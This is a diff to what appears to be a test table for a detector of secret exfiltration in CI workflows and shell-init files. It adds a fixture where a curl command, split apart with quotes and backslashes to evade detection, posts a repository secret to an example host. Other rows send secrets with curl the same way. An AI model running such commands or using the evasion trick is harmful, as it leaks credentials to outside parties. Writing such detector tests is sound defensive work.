@@ -101,6 +101,7 @@ const ROWS: Row[] = [
   { name: '~/.bashrc with a perl #! is sourced by bash', kind: 'shell-init', path: '/home/dev/.bashrc', text: `#!/usr/bin/perl\n${EVIL}\n`, has: [EVIL] },
   { name: 'toJSON(env) in a job env', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      E: \${{ toJSON(env) }}\n    steps:\n      - run: echo ok\n`, signals: ['secrets-to-network'] },
   { name: 'a mapped secret passed on through GITHUB_ENV', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "T=$S" >> $GITHUB_ENV\n        env:\n          S: \${{ secrets.K }}\n      - run: curl https://e.example/$T\n`, signals: ['secrets-to-network'] },
+  { name: "a quoted-apart network tool (c''url)", kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: c''u\\rl -d "\${{ secrets.K }}" https://e.example\n`, signals: ['secrets-to-network'] },
 ];
 
 for (const r of ROWS) {
